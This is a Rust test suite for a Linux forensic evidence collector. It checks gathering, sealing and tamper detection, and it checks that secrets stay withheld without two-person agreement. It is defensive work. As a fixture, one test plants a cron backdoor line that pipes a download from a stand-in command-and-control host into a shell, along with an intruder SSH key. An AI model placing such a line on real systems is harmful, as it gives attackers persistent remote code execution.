//! Evidence gathered from this machine's real processes and kernel, and from hostile trees of files; then
//! checked as on another machine.

#![cfg(target_os = "linux")]
#![allow(clippy::unwrap_used, clippy::panic, reason = "a test's own tools fail the test")]

use std::fs::File;
use std::io::Write as _;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use cordon_agent::contain::action::ActError;
use cordon_agent::contain::action::collect::{
    Agreement, Applied, Collector, Program, Progress, Request, collect, limits,
};
use cordon_evidence::archive::{ArchiveReport, Manifest, Signature, Statement, check};
use cordon_model::action::{Collection, FilePath, Piece, ProcessTarget};
use cordon_model::finding::ProcessRef;
use cordon_model::ids::{MachineId, MeasureId};
use cordon_model::signed::seal;
use cordon_model::time::{BootId, BootNanos, UtcNanos};
use ed25519_dalek::SigningKey;

/// Not a test: the process that gathers, when a collector starts this program again.
#[test]
fn one_who_gathers() {
    let arguments: Vec<String> = std::env::args().collect();
    let [.., journal, measure] = &arguments[..] else { return };
    let Ok(measure) = measure.parse() else { return };
    let _ = collect(Path::new(journal), measure);
    // As the program itself does: whatever still hangs is not waited for.
    std::process::exit(0);
}

fn measure(number: u8) -> MeasureId {
    MeasureId::new(UtcNanos::from_unix_nanos(0), [number; 10])
}

fn key() -> SigningKey {
    SigningKey::from_bytes(&[7; 32])
}

fn request(pieces: Vec<Piece>) -> Request {
    Request {
        organisation: "RJ1".parse().unwrap(),
        machine: MachineId::new(UtcNanos::from_unix_nanos(0), [1; 10]),
        collection: Collection { pieces, most_bytes: 1 << 30 },
        agreed: None,
    }
}

fn file(path: &str) -> Piece {
    Piece::File(FilePath::new(path))
}

/// A machine's tree of files, and where its archives go.
struct Bench {
    folder: tempfile::TempDir,
}

impl Bench {
    fn new() -> Self {
        let bench = Self { folder: tempfile::tempdir().unwrap() };
        for place in ["root/etc/cron.d", "root/home/ann/.ssh", "root/var/log", "root/tmp"] {
            std::fs::create_dir_all(bench.at(place)).unwrap();
        }
        bench.write(
            "root/etc/passwd",
            "root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/sh\n",
        );
        bench.write("root/etc/shadow", "root:$6$verysecret:19000::::::\nann:!:19000:::::1:\n");
        bench
    }

    fn at(&self, place: &str) -> PathBuf {
        self.folder.path().canonicalize().unwrap().join(place)
    }

    fn write(&self, place: &str, text: &str) {
        std::fs::write(self.at(place), text).unwrap();
    }

    fn collector(&self) -> Collector {
        let program = Program {
            path: std::env::current_exe().unwrap(),
            arguments: ["--exact", "one_who_gathers", "--nocapture"].map(Into::into).to_vec(),
        };
        Collector::open(&self.at("journal"), &self.at("evidence"), &self.at("root"), program)
            .unwrap()
    }

    /// Gathers, however long it takes.
    fn gather(&self, request: &Request) -> (Applied, Progress) {
        let mut collector = self.collector();
        let applied = collector.apply(measure(1), request).unwrap();
        let progress = wait(&mut collector, &applied);
        (applied, progress)
    }

    /// Gathers, seals, and checks as anybody would.
    fn gathered(&self, request: &Request) -> Evidence {
        let (applied, progress) = self.gather(request);
        let Progress::Done(statement) = progress else { panic!("{progress:?}") };
        let mut collector = self.collector();
        collector.seal(&applied, &seal(&statement, &key()).unwrap()).unwrap();
        let archive = File::open(applied.archive()).unwrap();
        let report = check(archive, Some(&key().verifying_key())).unwrap();
        assert!(report.is_sound(), "{report}");
        let opened = self.at("opened");
        std::fs::create_dir_all(&opened).unwrap();
        let output = Command::new("tar")
            .arg("-xzf")
            .arg(applied.archive())
            .arg("-C")
            .arg(&opened)
            .output()
            .unwrap();
        assert!(output.status.success() && output.stderr.is_empty(), "{output:?}");
        Evidence { applied, report, opened }
    }
}

fn wait(collector: &mut Collector, applied: &Applied) -> Progress {
    loop {
        match collector.look(applied).unwrap() {
            Progress::Running => std::thread::sleep(Duration::from_millis(5)),
            progress => return progress,
        }
    }
}

struct Evidence {
    applied: Applied,
    report: ArchiveReport,
    opened: PathBuf,
}

impl Evidence {
    fn manifest(&self) -> &Manifest {
        self.report.manifest.as_ref().unwrap()
    }

    /// The bytes of the first piece from `source`.
    fn piece(&self, source: &str) -> Vec<u8> {
        let at = self.manifest().pieces.iter().position(|piece| piece.source == source);
        let number = at.unwrap_or_else(|| panic!("no {source} in {:#?}", self.manifest())) + 1;
        std::fs::read(self.opened.join(format!("pieces/{number:06}"))).unwrap()
    }

    fn cut(&self, source: &str) -> Option<&str> {
        let mut pieces = self.manifest().pieces.iter();
        pieces.find(|piece| piece.source == source).unwrap().cut.as_deref()
    }

    fn why_missing(&self, source: &str) -> &str {
        let missing = self.manifest().missing.iter().find(|missing| missing.source == source);
        &missing.unwrap_or_else(|| panic!("{source} is not missing: {:#?}", self.manifest())).why
    }

    fn holds(&self, what: &[u8]) -> bool {
        (1..=self.manifest().pieces.len()).any(|number| {
            let bytes = std::fs::read(self.opened.join(format!("pieces/{number:06}"))).unwrap();
            bytes.windows(what.len()).any(|window| window == what)
        })
    }
}

/// A process with a secret in its environment and another in its memory.
struct Suspect(Child);

impl Suspect {
    fn new() -> Self {
        let script = "secret=$(printf 'in-%s-memory' its); echo up; read line; echo $secret";
        let mut child = Command::new("sh")
            .args(["-c", script, "suspect", "line\nfeed", "\u{202e}"])
            .env("PASSWORD", "in-its-environment")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = [0; 3];
        std::io::Read::read_exact(child.stdout.as_mut().unwrap(), &mut line).unwrap();
        Self(child)
    }

    fn target(&self) -> ProcessTarget {
        let stat = std::fs::read_to_string(format!("/proc/{}/stat", self.0.id())).unwrap();
        let ticks: u64 =
            stat.rsplit(')').next().unwrap().split_whitespace().nth(19).unwrap().parse().unwrap();
        let boot = std::fs::read_to_string("/proc/sys/kernel/random/boot_id").unwrap();
        ProcessTarget {
            boot: BootId(boot.trim().into()),
            process: ProcessRef {
                pid: self.0.id(),
                started: BootNanos(ticks * 10_000_000),
                image: String::new(),
            },
        }
    }
}

impl Drop for Suspect {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn everything_is_gathered_checked_and_opened_and_secrets_stay_on_the_machine() {
    let bench = Bench::new();
    let suspect = Suspect::new();
    bench.write("root/etc/cron.d/backdoor", "* * * * * root curl c2.example | sh\n");
    bench.write("root/home/ann/.ssh/authorized_keys", "ssh-ed25519 AAAA intruder\n");
    bench.write("root/var/log/auth.log", "Accepted publickey for ann\n");
    std::fs::create_dir_all(bench.at("root/etc/ssh")).unwrap();
    bench.write("root/etc/ssh/ssh_host_ed25519_key", "host-key-secret");
    bench.write("root/etc/ssh/sshd_config", "PermitRootLogin yes\n");
    let mut pieces = Piece::OF_ANY_MACHINE.to_vec();
    pieces.push(file("/var/log/auth.log"));
    let mut wanted = request(pieces);
    let evidence = bench.gathered(&wanted);
    let processes = String::from_utf8(evidence.piece("/proc")).unwrap();
    let row = processes
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap())
        .find(|row| row["pid"] == suspect.0.id())
        .unwrap();
    assert_eq!(row["arguments"][3], "suspect");
    assert_eq!(row["arguments"][4], "line\\nfeed");
    assert_eq!(row["arguments"][5], "\\u{202e}", "what deceives is shown");
    assert_eq!(row["parent"], std::process::id());
    assert!(row["maps"].as_str().unwrap().contains("[stack]"));
    assert!(row["open_files"].as_array().unwrap().len() >= 3);
    let program = std::fs::read(format!("/proc/{}/exe", suspect.0.id())).unwrap();
    assert_eq!(row["program_sha256"], sha256(&program));
    assert_eq!(evidence.piece("/etc/cron.d/backdoor"), b"* * * * * root curl c2.example | sh\n");
    assert_eq!(evidence.piece("/var/log/auth.log"), b"Accepted publickey for ann\n");
    assert!(evidence.holds(b"AAAA intruder") && evidence.holds(b"PermitRootLogin yes"));
    for source in ["nf_tables", "/proc/cmdline", "/proc/self/mountinfo"] {
        let _ = evidence.piece(source);
    }
    let shadow = String::from_utf8(evidence.piece("/etc/shadow")).unwrap();
    assert!(shadow.contains(r#""name":"root","password":"set""#), "{shadow}");
    assert!(shadow.contains(r#""name":"ann","password":"locked""#), "{shadow}");
    for secret in [&b"verysecret"[..], b"in-its-environment", b"in-its-memory", b"host-key-secret"]
    {
        assert!(!evidence.holds(secret), "{}", String::from_utf8_lossy(secret));
    }
    assert!(evidence.why_missing("/etc/ssh/ssh_host_ed25519_key").contains("on purpose"));
    let mode = |path: PathBuf| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(evidence.applied.archive()), 0o600);
    assert_eq!(mode(bench.at("evidence")), 0o700);
    // An environment that is named is gathered, where two people agreed.
    let mut collector = bench.collector();
    wanted.collection.pieces = vec![file("/var/log/auth.log")];
    assert!(collector.apply(measure(1), &wanted).is_err(), "this measure gathered something else");
    assert!(collector.undo(&evidence.applied).unwrap().is_exact());
    let left: Vec<_> = std::fs::read_dir(bench.at("evidence"))
        .unwrap()
        .map(|entry| entry.unwrap().file_name())
        .collect();
    assert_eq!(left, ["lock"]);
    wanted.collection.pieces.push(Piece::Environment(suspect.target()));
    let error = bench.collector().apply(measure(1), &wanted).unwrap_err();
    assert!(matches!(error, ActError::Refused(_)), "{error}");
    wanted.agreed = Some(Agreement { first: "a.nurse".into(), second: "b.doctor".into() });
    let evidence = bench.gathered(&wanted);
    assert!(evidence.holds(b"in-its-environment"));
    assert_eq!(evidence.manifest().agreed, ["a.nurse", "b.doctor"]);
}

fn sha256(bytes: &[u8]) -> String {
    use sha2::Digest as _;
    sha2::Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
}

#[test]
fn memory_takes_two_people_and_is_that_of_the_very_process() {
    let bench = Bench::new();
    let suspect = Suspect::new();
    let mut wanted = request(vec![Piece::Memory(suspect.target())]);
    let agreed =
        |first: &str, second: &str| Some(Agreement { first: first.into(), second: second.into() });
    for nobody in [None, agreed("a.nurse", " A.Nurse"), agreed("a.nurse", " ")] {
        wanted.agreed = nobody;
        let error = bench.collector().apply(measure(1), &wanted).unwrap_err();
        assert!(matches!(error, ActError::Refused(_)), "{error}");
    }
    wanted.agreed = agreed("a.nurse", "b.doctor");
    let mut other = suspect.target();
    other.process.started = BootNanos(other.process.started.0 + 1_000_000_000);
    wanted.collection.pieces.push(Piece::Memory(other));
    let evidence = bench.gathered(&wanted);
    assert!(evidence.holds(b"in-its-memory"));
    assert_eq!(evidence.manifest().agreed, ["a.nurse", "b.doctor"]);
    let source = format!("/proc/{}/mem", suspect.0.id());
    assert!(evidence.why_missing(&source).contains("another by now"));
    // The index leads to the bytes: the program's first page begins with its magic number.
    let index = String::from_utf8(evidence.piece(&source)).unwrap();
    let row: serde_json::Value = serde_json::from_str(index.lines().next().unwrap()).unwrap();
    let at = usize::try_from(row["at"].as_u64().unwrap()).unwrap();
    let memory = std::fs::read(evidence.opened.join("pieces/000002")).unwrap();
    assert_eq!(memory[at..at + 4], *b"\x7fELF", "{row}");
}

#[test]
fn links_pipes_devices_names_and_files_without_end_are_survived_and_said() {
    let bench = Bench::new();
    bench.write("root/tmp/secret", "outside");
    symlink(bench.at("root/tmp/secret"), bench.at("root/etc/cron.d/link")).unwrap();
    symlink(bench.at("root/tmp"), bench.at("root/home/ann/.config")).unwrap();
    nix::unistd::mkfifo(&bench.at("root/etc/cron.d/pipe"), nix::sys::stat::Mode::S_IRWXU).unwrap();
    bench.write("root/etc/cron.d/name\nwith\u{1b}[2J", "a line");
    let big = File::create(bench.at("root/var/log/big.log")).unwrap();
    big.set_len(limits::FILE_BYTES + 1000).unwrap();
    {
        use std::os::unix::fs::FileExt as _;
        big.write_all_at(b"the end", limits::FILE_BYTES + 993).unwrap();
    }
    std::fs::copy(bench.at("root/var/log/big.log"), bench.at("root/tmp/big")).unwrap();
    // A file that grows as fast as it can, all the while.
    let is_over = std::sync::Arc::new(AtomicBool::new(false));
    let growing = bench.at("root/tmp/growing");
    let writer = std::thread::spawn({
        let (is_over, growing) = (is_over.clone(), growing.clone());
        move || {
            while !is_over.load(Ordering::Relaxed) {
                let mut file = File::create(&growing).unwrap();
                for _ in 0..1000 {
                    file.write_all(&[b'x'; 64 << 10]).unwrap();
                    if is_over.load(Ordering::Relaxed) {
                        break;
                    }
                }
            }
        }
    });
    while !growing.exists() {
        std::thread::yield_now();
    }
    let evidence = bench.gathered(&request(vec![
        Piece::Persistence,
        file("/var/log/big.log"),
        file("/tmp/big"),
        file("/tmp/growing"),
        file("/etc/cron.d/link"),
        file("/etc/cron.d/pipe"),
        file("/home/ann/.config/secret"),
        file("/tmp/gone"),
    ]));
    is_over.store(true, Ordering::Relaxed);
    writer.join().unwrap();
    assert_eq!(evidence.piece("/etc/cron.d/name\\nwith\\u{1b}[2J"), b"a line");
    assert!(evidence.why_missing("/etc/cron.d/link").contains("symbolic link"));
    assert!(evidence.why_missing("/etc/cron.d/pipe").contains("pipe"));
    assert!(evidence.why_missing("/home/ann/.config/secret").contains("symbolic link"));
    assert!(evidence.why_missing("/tmp/gone").contains("No such file"));
    assert!(!evidence.holds(b"outside"));
    let log = evidence.piece("/var/log/big.log");
    assert!(log.len() as u64 == limits::FILE_BYTES && log.ends_with(b"the end"));
    let first = evidence.piece("/tmp/big");
    assert!(first.len() as u64 == limits::FILE_BYTES && !first.ends_with(b"the end"));
    let cut = evidence.cut("/tmp/big").unwrap();
    assert!(cut.contains("the limit of one piece"), "{cut}");
    let _ = evidence.piece("/tmp/growing");
}

#[test]
fn what_has_no_room_is_cut_or_missing_and_said_and_the_archive_is_sound() {
    let bench = Bench::new();
    bench.write("root/tmp/a", &"a".repeat(6000));
    bench.write("root/tmp/b", &"b".repeat(6000));
    let mut wanted = request(vec![file("/tmp/a"), file("/tmp/b"), file("/etc/passwd")]);
    wanted.collection.most_bytes = 10_000;
    let evidence = bench.gathered(&wanted);
    assert_eq!(evidence.report.bytes, 10_000);
    assert_eq!(evidence.piece("/tmp/b").len(), 4000);
    let cut = evidence.cut("/tmp/b").unwrap();
    assert!(cut.contains("the limit of the whole archive"), "{cut}");
    assert!(evidence.why_missing("/etc/passwd").contains("limit"));
}

#[test]
fn a_file_system_that_never_answers_is_left_and_the_rest_is_gathered() {
    if cordon_tests::lacks_root("mounting a file system that hangs") {
        return;
    }
    if !Path::new("/dev/fuse").exists() {
        cordon_tests::cannot_be_had("a file system that hangs needs /dev/fuse");
        return;
    }
    use std::os::fd::AsRawFd as _;
    let bench = Bench::new();
    bench.write("root/tmp/after", "still here");
    // In a mount namespace of this thread's own, which the process that gathers inherits.
    nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWNS).unwrap();
    let private = nix::mount::MsFlags::MS_REC | nix::mount::MsFlags::MS_PRIVATE;
    nix::mount::mount(None::<&str>, "/", None::<&str>, private, None::<&str>).unwrap();
    // Nobody will ever answer.
    let fuse = File::options().read(true).write(true).open("/dev/fuse").unwrap();
    let options = format!("fd={},rootmode=40000,user_id=0,group_id=0", fuse.as_raw_fd());
    std::fs::create_dir_all(bench.at("root/mnt")).unwrap();
    for place in ["root/mnt", "root/home/ann"] {
        let flags = nix::mount::MsFlags::empty();
        if place == "root/mnt" {
            nix::mount::mount(Some("dead"), &bench.at(place), Some("fuse"), flags, Some(&*options))
                .unwrap();
        } else {
            let bind = nix::mount::MsFlags::MS_BIND;
            let from = bench.at("root/mnt");
            nix::mount::mount(Some(&from), &bench.at(place), None::<&str>, bind, None::<&str>)
                .unwrap();
        }
    }
    let evidence =
        bench.gathered(&request(vec![Piece::Accounts, file("/mnt/file"), file("/tmp/after")]));
    assert!(evidence.why_missing("/mnt/file").contains("no answer within"));
    assert!(evidence.why_missing("/home/ann/.ssh/authorized_keys").contains("fuse"));
    assert_eq!(evidence.piece("/tmp/after"), b"still here");
}

#[test]
fn one_that_is_killed_says_so_and_begins_anew() {
    let bench = Bench::new();
    let wanted = request(vec![Piece::Processes, file("/etc/passwd")]);
    let mut collector = bench.collector();
    let applied = collector.apply(measure(1), &wanted).unwrap();
    assert_eq!(collector.apply(measure(1), &wanted).unwrap(), applied, "again");
    let busy = collector.apply(measure(2), &wanted);
    assert!(busy.is_err() || wait(&mut collector, &applied) != Progress::Running);
    for child in children_of(std::process::id(), &bench) {
        let pid = nix::unistd::Pid::from_raw(i32::try_from(child).unwrap());
        let _ = nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL);
    }
    // Killed in time, or done before.
    if let Progress::Failed(why) = wait(&mut collector, &applied) {
        assert!(why.contains("ended"), "{why}");
        assert!(!collector.prove(&applied).unwrap().is_read_back);
    }
    collector.apply(measure(1), &wanted).unwrap();
    let progress = wait(&mut collector, &applied);
    assert!(matches!(progress, Progress::Done(_)), "{progress:?}");
    assert!(collector.prove(&applied).unwrap().is_read_back);
}

/// Processes that gather for `bench`.
fn children_of(parent: u32, bench: &Bench) -> Vec<u32> {
    let journal = bench.at("journal");
    let is_its = |pid: u32| {
        let line = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
        String::from_utf8_lossy(&line).contains(journal.to_str().unwrap())
    };
    std::fs::read_dir("/proc")
        .unwrap()
        .filter_map(|entry| entry.ok()?.file_name().to_str()?.parse().ok())
        .filter(|pid| *pid != parent && is_its(*pid))
        .collect()
}

/// Not a test: a helper that begins to gather and is killed, when a test starts this program again.
#[test]
fn one_who_applies_and_is_killed() {
    let Ok(folder) = std::env::var("CORDON_TEST_APPLIES") else { return };
    let folder = PathBuf::from(folder);
    let program = Program {
        path: std::env::current_exe().unwrap(),
        arguments: ["--exact", "one_who_gathers", "--nocapture"].map(Into::into).to_vec(),
    };
    let mut collector = Collector::open(
        &folder.join("journal"),
        &folder.join("evidence"),
        &folder.join("root"),
        program,
    )
    .unwrap();
    collector.apply(measure(1), &request(vec![Piece::Processes, Piece::Network])).unwrap();
    std::fs::write(folder.join("began"), "").unwrap();
    loop {
        std::thread::sleep(Duration::from_secs(60));
    }
}

#[test]
fn a_helper_that_dies_takes_its_gatherer_along_and_the_next_one_begins_anew() {
    let bench = Bench::new();
    let mut helper = Command::new(std::env::current_exe().unwrap())
        .args(["--exact", "one_who_applies_and_is_killed"])
        .env("CORDON_TEST_APPLIES", bench.at(""))
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    while !bench.at("began").exists() {
        std::thread::sleep(Duration::from_millis(1));
    }
    helper.kill().unwrap();
    helper.wait().unwrap();
    while !children_of(std::process::id(), &bench).is_empty() {
        std::thread::sleep(Duration::from_millis(5));
    }
    let mut collector = bench.collector();
    let begun = collector.begun(measure(1)).unwrap().unwrap();
    let applied = collector.apply(measure(1), &begun.request).unwrap();
    assert!(matches!(wait(&mut collector, &applied), Progress::Done(_)));
    collector.undo(&applied).unwrap();
    assert!(!applied.archive().exists() && collector.begun(measure(1)).unwrap().is_none());
}

#[test]
fn only_a_seal_of_this_archive_is_appended_and_an_altered_one_is_not_sound() {
    let bench = Bench::new();
    let (applied, progress) = bench.gather(&request(vec![file("/etc/passwd")]));
    let Progress::Done(statement) = progress else { panic!("{progress:?}") };
    let mut collector = bench.collector();
    let looked = |key: &SigningKey| {
        let archive = File::open(applied.archive()).unwrap();
        check(archive, Some(&key.verifying_key())).unwrap()
    };
    assert_eq!(looked(&key()).signature, Signature::None);
    assert!(
        collector.prove(&applied).unwrap().unproven.iter().any(|what| what.contains("not sealed"))
    );
    let other = Statement { pieces: 9, ..statement.clone() };
    let error = collector.seal(&applied, &seal(&other, &key()).unwrap()).unwrap_err();
    assert!(matches!(error, ActError::Refused(_)), "{error}");
    for _ in 0..2 {
        collector.seal(&applied, &seal(&statement, &key()).unwrap()).unwrap();
        assert!(looked(&key()).is_sound());
    }
    assert!(!looked(&SigningKey::from_bytes(&[8; 32])).is_sound());
    let mut bytes = std::fs::read(applied.archive()).unwrap();
    let middle = bytes.len() / 3;
    bytes[middle] ^= 1;
    std::fs::write(applied.archive(), bytes).unwrap();
    assert!(!looked(&key()).is_sound());
}
